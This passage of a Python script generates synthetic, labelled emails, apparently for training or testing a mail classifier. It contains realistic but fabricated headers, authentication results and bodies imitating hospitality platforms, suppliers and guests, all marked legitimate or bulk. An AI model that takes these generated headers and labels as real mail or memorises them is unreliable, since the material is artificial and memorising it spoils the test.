    hops = [f"Received: by mail-sor-f73.google.com with SMTP id {alnum(seed+'s',16).lower()}\n        for <{rcpt}>; {fmt(before(when,1))}"]
    inner = ('<p style="font-size:20px;">Your January performance report for Sunset Grill San Diego</p>\n'
             '<p><b>2,184</b> people viewed your Business Profile &middot; <b>318</b> calls &middot; <b>561</b> direction requests</p>\n'
             + button("https://business.google.com/n/" + str(int(h(seed, 10), 16)) + "/profile?hl=en&amp;utm_source=gmb&amp;utm_medium=email", "See full report", "#1a73e8"))
    html = generic_tpl("Google Business Profile", "#ffffff", inner, "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043. "
                       "You received this email to update you about your Business Profile. <a href=\"https://business.google.com/settings\">Unsubscribe</a>", fg="#5f6368")
    plain = "Your January performance report: 2,184 views, 318 calls, 561 direction requests.\n"
    own = sigs + stdhead(frm=addr("Google Business Profile", "businessprofile-noreply@google.com"), to=rcpt,
                         subject="Your January performance report for Sunset Grill San Diego", when=when,
                         msgid=f"<{h(seed+'m',22)}-{alnum(seed,22)}@google.com>",
                         extra=["List-Unsubscribe: <https://business.google.com/unsubscribe?t=" + h(seed, 20) + ">", "Feedback-ID: gmb-perf:gmb:google.com"])
    add("bulk", "bulk", "google-business-monthly-performance",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Google Business Profile monthly performance report from businessprofile-noreply@google.com (google.com passes).")


def l_opentable_weekly() -> None:
    seed = "l09"
    when = T(2024, 12, 16, 8, 0, 12, -5)
    rcpt = "reservations@olivebranchnyc.com"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="o365", frm="restaurantnews@opentable.com",
                                     mailfrom="bounce-" + h(seed, 12) + "@em.opentable.com", host="mta-152-29.sparkpostmail.com", ip="156.70.152.29",
                                     d="opentable.com", dk=[("pass", "opentable.com", "scph0921")], dmarc=("pass", "reject"), bcl=5)
    inner = ('<p style="font-size:20px;font-weight:bold;">Holiday season playbook for restaurants</p>\n'
             '<p>Diner searches for &ldquo;holiday party&rdquo; are up 34% this month. Here are five ways to fill your private dining room in December.</p>\n'
             + button("https://click.em.opentable.com/?qs=" + h(seed, 64), "Read the playbook", "#da3743"))
    html = generic_tpl("OpenTable for Restaurants", "#da3743", inner, 'OpenTable, 1 Montgomery St., San Francisco, CA 94104 &middot; '
                       '<a href="https://click.em.opentable.com/?qs=' + h(seed + "u", 64) + '">Unsubscribe</a>')
    plain = "Holiday season playbook for restaurants. Read: https://www.opentable.com/restaurant-solutions/resources/\n"
    own = sigs + stdhead(frm=addr("OpenTable for Restaurants", "restaurantnews@opentable.com"), to=rcpt,
                         subject="Holiday season playbook: fill your private dining room", when=when, msgid=f"<{h(seed+'m',24)}@em.opentable.com>",
                         extra=["List-Unsubscribe: <https://click.em.opentable.com/u?qs=" + h(seed, 40) + ">", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])
    add("bulk", "bulk", "opentable-restaurant-newsletter",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine OpenTable for Restaurants marketing newsletter via SparkPost (opentable.com passes) with tracked links and unsubscribe.")


def l_tripadvisor_owners() -> None:
    seed = "l10"
    when = T(2025, 4, 22, 15, 3, 7, 0)
    rcpt = "manager@thecopperkettlecafe.co.uk"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="o365", frm="owners@e.tripadvisor.com",
                                     mailfrom="bounce-" + h(seed, 10) + "@e.tripadvisor.com", host="mta56.e.tripadvisor.com", ip="13.111.42.56",
                                     d="e.tripadvisor.com", dk=[("pass", "e.tripadvisor.com", "200608")], dmarc=("pass", "reject"), ctry="US", bcl=6)
    inner = ('<p style="font-size:20px;font-weight:bold;">Your Travellers&#39; Choice 2025 status is coming soon</p>\n'
             '<p>Keep collecting reviews: properties with fresh reviews rank higher. Download your free review-collection card for the counter.</p>\n'
             + button("https://click.e.tripadvisor.com/?qs=" + h(seed, 64), "Get review cards", "#34e0a1", "#000000"))
    html = generic_tpl("Tripadvisor", "#34e0a1", inner, '&copy; 2025 Tripadvisor LLC &middot; <a href="https://click.e.tripadvisor.com/?qs=' + h(seed + "u", 40) + '">Unsubscribe</a>', fg="#000000")
    plain = "Your Travellers' Choice 2025 status is coming soon. Get review cards: https://www.tripadvisor.co.uk/Owners\n"
    own = sigs + stdhead(frm=addr("Tripadvisor", "owners@e.tripadvisor.com"), to=rcpt, subject="Travellers' Choice 2025 is coming - collect more reviews",
                         when=when, msgid=f"<{h(seed+'m',24)}@mta56.e.tripadvisor.com>",
                         extra=["List-Unsubscribe: <https://click.e.tripadvisor.com/u?qs=" + h(seed, 40) + ">", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                                "X-SFMC-Stack: 50"])
    add("bulk", "bulk", "tripadvisor-owners-newsletter",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Tripadvisor owners marketing mail via Salesforce Marketing Cloud (e.tripadvisor.com passes) with click-tracked links.")


def l_thefork_reservation() -> None:
    seed = "l11"
    when = T(2025, 5, 2, 19, 41, 2, 2)
    rcpt = "bistrotducanal.lyon@gmail.com"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm="noreply@thefork.com",
                                     mailfrom="bounce@mail.thefork.com", host="mail.thefork.com", ip="198.21.6.77", d="thefork.com",
                                     dk=[("pass", "thefork.com", "s1")], dmarc=("pass", "reject"))
    inner = ('<p style="font-size:20px;font-weight:bold;color:#00665c;">Nouvelle r&eacute;servation</p>\n'
             '<p>Samedi 3 mai 2025 &agrave; 20:30 &middot; 4 personnes &middot; M. Julien Perrin<br>Offre : -30% sur la carte</p>\n'
             + button("https://manager.thefork.com/fr_FR/booking/list?date=2025-05-03", "Voir dans TheFork Manager", "#00665c"))
    html = generic_tpl("TheFork", "#00665c", inner, "TheFork SAS, 70 rue Saint-Lazare, 75009 Paris")
    plain = "Nouvelle réservation : samedi 3 mai 2025 à 20:30, 4 personnes, M. Julien Perrin.\n"
    own = sigs + stdhead(frm=addr("TheFork Manager", "noreply@thefork.com"), to=rcpt, subject="Nouvelle réservation - sam. 3 mai 20:30 - 4 pers.",
                         when=when, msgid=f"<{h(seed+'m',24)}@thefork.com>")
    add("clean", "legit", "thefork-new-reservation-fr",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine French TheFork Manager new-reservation notification (thefork.com passes) linking to manager.thefork.com.")


def l_vrbo_inquiry() -> None:
    seed = "l12"
    when = T(2025, 8, 9, 13, 2, 40, -6)
    rcpt = "mountainviewcabins@outlook.com"
    host, ip = ses_hop(seed, when)
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="outlook", frm="noreply@messages.homeaway.com",
                                     mailfrom=f"0100{h(seed,12)}@amazonses.com", host=host, ip=ip, d="messages.homeaway.com",
                                     dk=[("pass", "messages.homeaway.com", "vrbo2022")], dmarc=("pass", "reject"))
    inner = ('<p style="font-size:20px;font-weight:bold;">New inquiry: Sep 5 &ndash; Sep 8</p>\n<p><b>Karen L.</b> &middot; 2 adults</p>'
             '<div style="background:#f2f4f7;padding:14px;">&ldquo;Hello, is the hot tub available in September? We&#39;d love a quiet weekend.&rdquo;</div>\n'
             + button("https://www.vrbo.com/rm/message/" + h(seed, 24), "Reply", "#0d2c8e"))
    html = generic_tpl("Vrbo", "#0d2c8e", inner, "Vrbo, an Expedia Group company, 1111 Expedia Group Way W, Seattle, WA 98119")
    plain = "New inquiry: Sep 5 - Sep 8, Karen L., 2 adults. Reply: https://www.vrbo.com/rm/message/\n"
    own = sigs + stdhead(frm=addr("Vrbo", "noreply@messages.homeaway.com"), to=rcpt, subject="New inquiry from Karen L. for Sep 5 - Sep 8",
                         when=when, msgid=f"<0100{h(seed+'m',16)}-{h(seed+'n',8)}-{h(seed+'o',4)}-{h(seed+'p',4)}-{h(seed+'q',4)}-{h(seed+'r',12)}-000000@email.amazonses.com>")
    add("clean", "legit", "vrbo-new-inquiry",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Vrbo traveler inquiry notification (messages.homeaway.com via SES, passes) linking to vrbo.com.")


def l_facebook_page() -> None:
    seed = "l13"
    when = T(2025, 5, 20, 18, 12, 9, 0)
    rcpt = "bookings@lagoonhostelbali.com"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm="notification@facebookmail.com",
                                     mailfrom="notification@facebookmail.com", host="66-220-155-151.mail-mail.facebook.com", ip="66.220.155.151",
                                     d="facebookmail.com", dk=[("pass", "facebookmail.com", "s1024-2013-q3")], dmarc=("pass", "reject"))
    hops = [f"Received: from facebook.com (DJlgSyCLW5SDZ4Fim8X8FQ4thhnl8d2PbgrAx41NfXq6xwh2S9cFzrBnHLL1K4Hg 2a03:2880:20ff:41::face:b00c)\n by facebook.com with Thrift id {h(seed,32)}-{h(seed+'x',8)}; {fmt(before(when,1))}"]
    inner = ('<p>Lagoon Hostel Bali</p><p style="font-size:18px;"><b>Your Page had 3 new messages and 12 new reviews this week</b></p>\n'
             + button("https://www.facebook.com/n/?lagoonhostelbali%2Finbox&amp;aref=" + str(int(h(seed, 8), 16)) + "&amp;medium=email&amp;mid=" + h(seed, 14), "See activity", "#0866ff"))
    html = generic_tpl("Facebook", "#0866ff", inner, 'This message was sent to bookings@lagoonhostelbali.com. '
                       '<a href="https://www.facebook.com/o.php?k=' + alnum(seed, 12) + '">Unsubscribe</a>. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025')
    plain = "Your Page had 3 new messages and 12 new reviews this week. See activity: https://www.facebook.com/\n"
    own = sigs + stdhead(frm=addr("Facebook", "notification@facebookmail.com"), to=rcpt, subject="Lagoon Hostel Bali: 3 new messages and 12 reviews",
                         when=when, msgid=f"<{h(seed+'m',22)}@facebookmail.com>",
                         extra=["X-Facebook: from 2401:db00:2030:5160:face:0:2c:0 ([MTI3LjAuMC4x])", "X-Priority: 3",
                                "X-Facebook-Notify: page_weekly_summary; mailid=" + h(seed, 16),
                                "List-Unsubscribe: <https://www.facebook.com/o.php?k=" + alnum(seed, 12) + ">"])
    add("bulk", "bulk", "facebook-page-weekly-activity",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Facebook Page weekly activity notification from notification@facebookmail.com (passes everything) with unsubscribe link.")


for _fn in (l_booking_new_reservation, l_booking_relay_parking, l_expedia_reservation, l_airbnb_payout, l_airbnb_review, l_stripe_payout,
            l_square_weekly, l_gbp_performance, l_opentable_weekly, l_tripadvisor_owners, l_thefork_reservation, l_vrbo_inquiry, l_facebook_page):
    _fn()


# ---------------------------------------------------------------- legitimate: people, suppliers, newsletters

def l_guest_inquiry_es() -> None:
    seed = "l14"
    when = T(2025, 3, 2, 21, 18, 44, 1)
    rcpt = "reservas@hostalelcarmen.es"
    frm = "lucia.ferrandez.m@gmail.com"
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm)
    plain = ("Hola,\n\nsomos dos adultos y un niño de 6 años y queremos ir a Granada en Semana Santa. ¿Tendríais una habitación triple "
             "del 16 al 19 de abril? ¿Cuál sería el precio con desayuno? Llegaríamos en coche, ¿hay algún parking cerca?\n\n"
             "Muchas gracias,\nLucía Ferrández\n")
    own = sigs + gmail_head(seed, when, "Lucía Ferrández", frm, rcpt, "Consulta disponibilidad Semana Santa")
    add("clean", "legit", "guest-availability-question-es",
        assemble(top, hops, own, tail, gmail_alt(seed, plain)),
        "Real Spanish guest inquiry from Gmail asking for a triple room over Easter, price and parking; no links or attachments.")


def l_guest_noise_complaint() -> None:
    seed = "l15"
    when = T(2024, 10, 21, 8, 2, 31, 1)
    rcpt = "reservations@thelighthousehotel.ie"
    frm = "d.okonkwo@outlook.com"
    top, hops, sigs, tail = envelope("outlookcom", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="IE")
    plain = ("Hello,\n\nWe stayed in room 12 from Friday to Sunday (booking under Okonkwo). Overall a lovely stay, but I wanted to let you know "
             "that on Saturday night there was very loud music from the function room until after 1am and when I called reception "
             "nobody answered. We had a toddler with us and it was a difficult night.\n\nI'm not looking for anything, just thought you "
             "should know. The breakfast was excellent.\n\nKind regards,\nDavid Okonkwo\n")
    own = sigs + stdhead(frm=addr("David Okonkwo", frm), to=rcpt, subject="Feedback on our stay last weekend", when=when,
                         msgid=outlook_msgid(seed, "namprd"), extra=ms_extra(seed, "Feedback on our stay last weekend", "en-IE"))
    add("clean", "legit", "guest-noise-feedback",
        assemble(top, hops, own, tail, o365_alt(seed, plain)),
        "Genuine guest feedback from an Outlook.com address about noise from the function room; polite, no links, no requests.")


def l_guest_id_photo_it() -> None:
    seed = "l16"
    when = T(2025, 9, 25, 12, 44, 5, 2)
    rcpt = "info@bbcorteantica-firenze.it"
    frm = "marco.gentile77@libero.it"
    photo = files.photo_jpeg(16)
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom=frm, helo="libero.it", ip="213.209.10.44", spf="pass",
                        dkims=[("pass", "libero.it", "s2021")], dmarc=("pass", "quarantine"), hfrom="libero.it", seed=seed,
                        server="host41.register-it-hosting.it", rdns="smtp-44.iol.local")
    hops = [f"Received: from [192.168.1.5] ([151.38.77.102])\n\tby smtp-44.iol.local with ESMTPA\n\tid {alnum(seed,16)}; {fmt(before(when,2))}"]
    plain = ("Buongiorno,\n\ncome richiesto per il check-in online vi mando la foto del documento e una foto del parcheggio dove "
             "ci avete detto di lasciare l'auto, per essere sicuro che sia quello giusto.\nArriviamo venerdì verso le 18.\n\nGrazie, Marco Gentile\n")
    body = Multi("mixed", f"------------{alnum(seed,24)}", [text(plain), attachment("image/jpeg", "IMG_20250925_124012.jpg", photo)])
    own = [dkim("libero.it", "s2021", "Message-ID:Date:MIME-Version:To:From:Subject:Content-Type", seed, when),
           f"Message-ID: <{h(seed+'a',8)}-{h(seed+'b',4)}-{h(seed+'c',4)}-{h(seed+'d',4)}-{h(seed+'e',12)}@libero.it>", f"Date: {fmt(when)}",
           "MIME-Version: 1.0", "User-Agent: Mozilla Thunderbird", "Content-Language: it", f"To: {rcpt}", f"From: {addr('Marco Gentile', frm)}",
           "Subject: Prenotazione Gentile 10-12 ottobre - documenti"]
    add("clean", "legit", "guest-checkin-photo-it",
        assemble(top, hops, own, tail, body),
        "Italian guest on libero.it (Thunderbird) sends a photo for online check-in and asks about parking; attachment is a plain JPEG.")


def l_bakery_invoice() -> None:
    seed = "l17"
    when = T(2025, 1, 31, 16, 20, 12, 0)
    rcpt = "accounts@kingsarmshotel-york.co.uk"
    frm = "accounts@ouseburnbakery.co.uk"
    pdf = files.pdf(["Ouseburn Artisan Bakery Ltd", "Unit 4, Foss Islands Road, York YO31 7UL", "", "INVOICE OB-2025-0119", "Date: 31/01/2025",
                     "Bill to: Kings Arms Hotel, York", "", "Sourdough loaves x 124          GBP 409.20", "Croissants x 310                GBP 232.50",
                     "Total due                       GBP 641.70", "", "Payment terms 30 days. Bank details as per our account agreement."],
                    title="Invoice OB-2025-0119")
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="GB")
    plain = "Hi Sarah,\n\nPlease find attached our invoice for January deliveries.\n\nMany thanks,\nJo\nOuseburn Artisan Bakery\n"
    body = Multi("mixed", f"_004_{h(seed,30)}_", [o365_alt(seed, plain), attachment("application/pdf", "Invoice OB-2025-0119.pdf", pdf)])
    own = sigs + stdhead(frm=addr("Jo Barraclough", frm), to=addr("Sarah Mitchell", rcpt), subject="Invoice OB-2025-0119 - January", when=when,
                         msgid=outlook_msgid(seed), extra=ms_extra(seed, "Invoice OB-2025-0119 - January", "en-GB", True))
    add("clean", "legit", "bakery-monthly-invoice",
        assemble(top, hops, own, tail, body),
        "Genuine monthly supplier invoice from a bakery's Microsoft 365 mailbox to a hotel with a plain PDF; no bank-change request, no links.")


def l_staff_rota() -> None:
    seed = "l18"
    when = T(2025, 2, 21, 17, 5, 0, 0)
    rcpt = "housekeeping@theharbourinn.co.uk"
    frm = "claire.dunn@theharbourinn.co.uk"
    top, tail = inbound("o365", rcpt=rcpt, when=when, mailfrom=frm, helo="AM9PR03MB7345.eurprd03.prod.outlook.com", ip="2603:10a6:20b:3c5::12",
                        spf="pass", dkims=[("pass", "theharbourinn.co.uk", "selector1")], dmarc=("pass", "quarantine"), hfrom="theharbourinn.co.uk",
                        seed=seed, ctry="GB")
    hops = hop_m365(seed, when)
    plain = ("Hi all,\n\nRota for w/c 24 Feb is on the board in the staff room. Main changes: Agnieszka and Tom swap Tuesday/Thursday, "
             "and we need an extra pair of hands on Saturday for the wedding turnover (11 rooms by 3pm). Let me know by Monday if you can do it.\n\n"
             "Thanks,\nClaire\nGeneral Manager\n")
    own = stdhead(frm=addr("Claire Dunn", frm), to=rcpt, subject="Rota w/c 24 Feb + Saturday wedding", when=when, msgid=outlook_msgid(seed),
                  extra=ms_extra(seed, "Rota w/c 24 Feb + Saturday wedding", "en-GB") + ["X-MS-Exchange-Organization-AuthAs: Internal",
                                                                                       "X-MS-Exchange-Organization-AuthMechanism: 04"])
    add("clean", "legit", "internal-staff-rota",
        assemble(top, hops, own, tail, o365_alt(seed, plain)),
        "Internal Microsoft 365 message from the inn's general manager to housekeeping about next week's rota; plain text content.")


def l_family_gr() -> None:
    seed = "l19"
    when = T(2025, 8, 31, 22, 10, 3, 3)
    rcpt = "santorinicaverooms@gmail.com"
    frm = "eleni.papadaki64@gmail.com"
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm)
    plain = ("Γιάννη μου,\n\nτι κάνετε; Πώς πήγε η σεζόν; Ο μπαμπάς ρωτάει αν θα έρθετε για τη γιορτή του στις 14 Σεπτεμβρίου. "
             "Φέρτε και τα παιδιά, θα φτιάξω γεμιστά.\n\nΦιλιά,\nη μαμά\n")
    own = sigs + gmail_head(seed, when, "Ελένη Παπαδάκη", frm, rcpt, "Γιορτή του μπαμπά")
    add("clean", "legit", "family-mail-gr",
        assemble(top, hops, own, tail, gmail_alt(seed, plain)),
        "Personal Greek e-mail from the host's mother on Gmail inviting the family to a name-day celebration.")


def l_domain_renewal() -> None:
    seed = "l20"
    when = T(2025, 5, 2, 9, 0, 41, 0)
    rcpt = "info@seacliffguesthouse.co.za"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm="support@namecheap.com",
                                     mailfrom="bounce@mail.namecheap.com", host="mta-81.namecheap.com", ip="198.54.122.81", d="namecheap.com",
                                     dk=[("pass", "namecheap.com", "s1")], dmarc=("pass", "reject"), server="cp41.afrihost-web.co.za")
    plain = ("Hi Pieter,\n\nThis is a reminder that the following domain will auto-renew in 30 days:\n\n"
             "seacliffguesthouse.co.za - expires Jun 1, 2025 - auto-renew ON\n\nThe card on file ending 2290 will be charged USD 11.98. "
             "No action is needed. To manage your domains, log in to your Namecheap account at https://www.namecheap.com/myaccount/login/\n\n"
             "Regards,\nNamecheap Support\n")
    own = sigs + stdhead(frm=addr("Namecheap Support", "support@namecheap.com"), to=rcpt, subject="Domain auto-renewal reminder: seacliffguesthouse.co.za",
                         when=when, msgid=f"<{h(seed+'m',24)}@namecheap.com>")
    add("clean", "legit", "registrar-auto-renew-reminder",
        assemble(top, hops, own, tail, text(plain)),
        "Genuine 30-day auto-renewal reminder from the guesthouse's registrar (namecheap.com passes); no action required, points to the registrar's own site.")


def l_pt_agency_voucher() -> None:
    seed = "l21"
    when = T(2025, 4, 14, 11, 22, 17, 1)
    rcpt = "reservas@guesthousealfama.pt"
    frm = "grupos@viagensatlantico.pt"
    pdf = files.pdf(["Viagens Atlantico, Lda. - RNAVT 4127", "VOUCHER DE ALOJAMENTO N. 25-0418", "", "Alojamento: Guesthouse Alfama",
                     "Clientes: Sr. e Sra. Henrique Moura", "Entrada: 02/05/2025   Saida: 05/05/2025", "Quarto duplo com pequeno-almoco",
                     "Pagamento: conforme acordo, transferencia a 30 dias"], title="Voucher 25-0418")
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, ctry="PT", lang="pt")
    plain = ("Bom dia Sra. Teresa,\n\nEnvio em anexo o voucher dos clientes Moura (2 a 5 de maio), conforme a reserva confirmada por telefone.\n"
             "O pagamento segue como habitualmente, por transferência a 30 dias.\n\nCom os melhores cumprimentos,\nRui Carvalho\nViagens Atlântico\n")
    body = Multi("mixed", f"_004_{h(seed,30)}_", [o365_alt(seed, plain), attachment("application/pdf", "Voucher_25-0418_Moura.pdf", pdf)])
    own = sigs + stdhead(frm=addr("Rui Carvalho", frm), to=rcpt, subject="Voucher 25-0418 - Moura - 02/05 a 05/05", when=when,
                         msgid=outlook_msgid(seed), extra=ms_extra(seed, "Voucher 25-0418 - Moura", "pt-PT", True))
    add("clean", "legit", "travel-agency-voucher-pt",
        assemble(top, hops, own, tail, body),
        "Portuguese travel agency (own M365 domain, passes) sends a normal accommodation voucher PDF for a phone-confirmed booking; usual payment terms, no links.")


def mailchimp_env(seed, when, rcpt, rk, frm, d, server="", ctry="US", lang="en"):
    n = int(h(seed, 2), 16) % 200 + 20
    host = f"mail{n}.atl{n % 9 + 21}1.mcdlv.net"
    return envelope("esp", seed=seed, when=when, rcpt=rcpt, rk=rk, frm=frm,
                    mailfrom=f"bounce-mc.us{n % 20 + 1}_{int(h(seed,6),16)}.{int(h(seed+'x',6),16)}-{rcpt.replace('@','=')}@mail{n}.atl{n % 9 + 21}1.mcdlv.net",
                    host=host, ip=f"198.2.{n % 60 + 128}.{n}", d=d, dk=[("pass", d, "k2"), ("pass", "mcdlv.net", "k1")],
                    dmarc=("pass", "none"), server=server, ctry=ctry, lang=lang, bcl=6)


def l_wine_mailchimp() -> None:
    seed = "l22"
    when = T(2024, 11, 5, 15, 30, 0, 1)
    rcpt = "direzione@hotelvillaflora-taormina.it"
    frm = "news@cantinetnaviva.it"
    top, hops, sigs, tail = mailchimp_env(seed, when, rcpt, "o365", frm, "cantinetnaviva.it", ctry="US", lang="it")
    trk = f"https://cantinetnaviva.us14.list-manage.com/track/click?u={h(seed,25)}&amp;id={h(seed+'i',10)}&amp;e={h(seed+'e',10)}"
    inner = ('<p style="font-size:22px;font-weight:bold;color:#6d1a36;">Novello 2024 e listino Horeca</p>\n'
             '<p>Cari amici della ristorazione, &egrave; arrivato il nostro Etna Rosso Novello. In allegato al link il nuovo listino Horeca '
             'con le condizioni per le festivit&agrave; (consegna gratuita sopra i 24 cartoni).</p>\n' + button(trk, "Scarica il listino", "#6d1a36"))
    html = generic_tpl("Cantine Etna Viva", "#6d1a36", inner, 'Cantine Etna Viva, Contrada Feudo, Castiglione di Sicilia (CT)<br>'
                       f'<a href="https://cantinetnaviva.us14.list-manage.com/unsubscribe?u={h(seed,25)}&amp;id={h(seed+"i",10)}">Annulla iscrizione</a>'
                       f'<img src="https://cantinetnaviva.us14.list-manage.com/track/open.php?u={h(seed,25)}&amp;id={h(seed+"o",10)}" width="1" height="1">')
    plain = "Novello 2024 e listino Horeca. Scarica il listino: https://cantinetnaviva.it/horeca\n"
    own = sigs + stdhead(frm=addr("Cantine Etna Viva", frm), to=rcpt, subject="Novello 2024 e listino Horeca per le feste", when=when,
                         msgid=f"<{h(seed+'m',24)}@mail.mailchimpapp.net>",
                         extra=[f"List-Unsubscribe: <https://cantinetnaviva.us14.list-manage.com/unsubscribe?u={h(seed,25)}&id={h(seed+'i',10)}>, <mailto:unsubscribe-mc.us14_{h(seed,10)}@unsubscribe.mailchimpapp.net>",
                                "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Mailchimp Mailer - **CID" + h(seed, 20) + "**",
                                "X-Campaign: mailchimp" + h(seed, 20), "X-MC-User: " + h(seed, 25), "Precedence: Bulk"])
    add("bulk", "bulk", "wine-supplier-mailchimp-it",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Italian winery's Horeca price-list newsletter via Mailchimp (own domain and mcdlv.net DKIM pass) with list-manage tracking links and unsubscribe.")


def l_linen_brevo_fr() -> None:
    seed = "l23"
    when = T(2025, 3, 11, 10, 0, 5, 1)
    rcpt = "contact@hotel-les-tilleuls-annecy.fr"
    frm = "newsletter@linge-hotelier-savoie.fr"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm=frm, mailfrom="bounces-" + h(seed, 8) + "@sender.linge-hotelier-savoie.fr",
                                     host="smtp-relay.brevo.com", ip="77.32.148.22", d="linge-hotelier-savoie.fr",
                                     dk=[("pass", "linge-hotelier-savoie.fr", "brevo1"), ("pass", "sendinblue.com", "mail")], dmarc=("pass", "none"),
                                     server="ns3012345.ip-51-38-12.eu")
    trk = "https://r.sender.linge-hotelier-savoie.fr/mk/cl/f/" + b64(seed, 80).replace("/", "_").replace("+", "-")
    inner = ('<p style="font-size:20px;font-weight:bold;">Pr&eacute;parez la saison d&#39;&eacute;t&eacute;</p>\n'
             '<p>Nouvelle gamme de draps en percale 200 fils, -10% sur les commandes pass&eacute;es avant le 15 avril. Livraison en 72h en Savoie et Haute-Savoie.</p>\n'
             + button(trk, "Voir le catalogue", "#2e5e8c"))
    html = generic_tpl("Linge Hôtelier Savoie".replace("ô", "&ocirc;"), "#2e5e8c", inner,
                       'Linge H&ocirc;telier Savoie SARL, 12 avenue de Genève, 74000 Annecy<br>'
                       f'<a href="https://r.sender.linge-hotelier-savoie.fr/mk/un/{b64(seed+"u", 60).replace("/", "_").replace("+", "-")}">Se désinscrire</a>'.replace("é", "&eacute;"))
    plain = "Préparez la saison d'été : -10% sur les draps percale avant le 15 avril.\n"
    own = sigs + stdhead(frm=addr("Linge Hôtelier Savoie", frm), to=rcpt, subject="Préparez la saison d'été : -10% sur la percale",
                         when=when, msgid=f"<{h(seed+'m',40)}@smtp-relay.mailin.fr>",
                         extra=["X-Mailer: Sendinblue", "X-sib-id: " + b64(seed + "sib", 64),
                                f"List-Unsubscribe: <https://r.sender.linge-hotelier-savoie.fr/mk/un/{b64(seed+'u', 60).replace('/', '_').replace('+', '-')}>",
                                "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Feedback-ID: 77.32.148.22:4211802_-1:4211802:Sendinblue"])
    add("bulk", "bulk", "linen-supplier-brevo-fr",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "French hotel-linen supplier's promotional newsletter via Brevo (own domain DKIM pass) with tracked links and unsubscribe.")


def l_sumup_newsletter_de() -> None:
    seed = "l24"
    when = T(2025, 2, 25, 9, 15, 0, 1)
    rcpt = "kontakt@cafe-lindenblatt.de"
    frm = "news@sumup.com"
    host, ip = ses_hop(seed, when)
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm=frm, mailfrom="bounce-" + h(seed, 10) + "@mail.sumup.com",
                                     host="mta-12.mail.sumup.com", ip="13.111.88.12", d="sumup.com", dk=[("pass", "sumup.com", "sfmc1")],
                                     dmarc=("pass", "reject"), server="web142.dogado-mx.de")
    trk = "https://click.mail.sumup.com/?qs=" + h(seed, 64)
    inner = ('<p style="font-size:20px;font-weight:bold;">Neu: Trinkgeld direkt am Kartenterminal</p>\n'
             '<p>Mit dem neuesten Update f&uuml;r Ihr SumUp Solo k&ouml;nnen Ihre G&auml;ste direkt beim Bezahlen Trinkgeld geben. '
             'Das Update wird automatisch installiert &ndash; Sie m&uuml;ssen nichts tun.</p>\n' + button(trk, "Mehr erfahren", "#000000"))
    html = generic_tpl("sumup", "#ffffff", inner, 'SumUp Payments Limited &middot; <a href="https://click.mail.sumup.com/?qs=' + h(seed + "u", 64) + '">Abmelden</a>', fg="#000000")
    plain = "Neu: Trinkgeld direkt am Kartenterminal. Das Update wird automatisch installiert.\n"
    own = sigs + stdhead(frm=addr("SumUp", frm), to=rcpt, subject="Neu: Trinkgeld direkt am Kartenterminal", when=when,
                         msgid=f"<{h(seed+'m',24)}@mta-12.mail.sumup.com>",
                         extra=["List-Unsubscribe: <https://click.mail.sumup.com/u?qs=" + h(seed, 40) + ">", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])
    add("bulk", "bulk", "sumup-product-news-de",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine German SumUp product newsletter from news@sumup.com (sumup.com DKIM/DMARC pass) about an automatic tipping update; nothing to do.")


def l_tourism_list() -> None:
    seed = "l25"
    when = T(2024, 5, 27, 16, 44, 2, 3)
    rcpt = "info@aegeanbluerooms.gr"
    frm = "m.kostas@naxos-hoteliers.gr"
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom="members+bncBD" + alnum(seed, 30) + "@googlegroups.com",
                        helo="mail-sor-f69.google.com", ip="209.85.220.69", spf="pass",
                        dkims=[("pass", "googlegroups.com", "20230601"), ("pass", "naxos-hoteliers.gr", "default")], dmarc=("pass", "none"),
                        hfrom="naxos-hoteliers.gr", seed=seed, server="s7.grserver.gr", rdns="mail-sor-f69.google.com")
    hops = [f"Received: by mail-sor-f69.google.com with SMTP id {alnum(seed+'s',16).lower()}\n        for <{rcpt}>; {fmt(before(when,1))}"]
    plain = ("Καλησπέρα σε όλα τα μέλη,\n\nσας υπενθυμίζουμε τη γενική συνέλευση του Συλλόγου την Τετάρτη 5 Ιουνίου στις 19:00 στο "
             "δημαρχείο. Θέματα: νέοι κανόνες για το τέλος ανθεκτικότητας, συνεργασία με τα ΚΤΕΛ για τη μεταφορά επισκεπτών.\n\n"
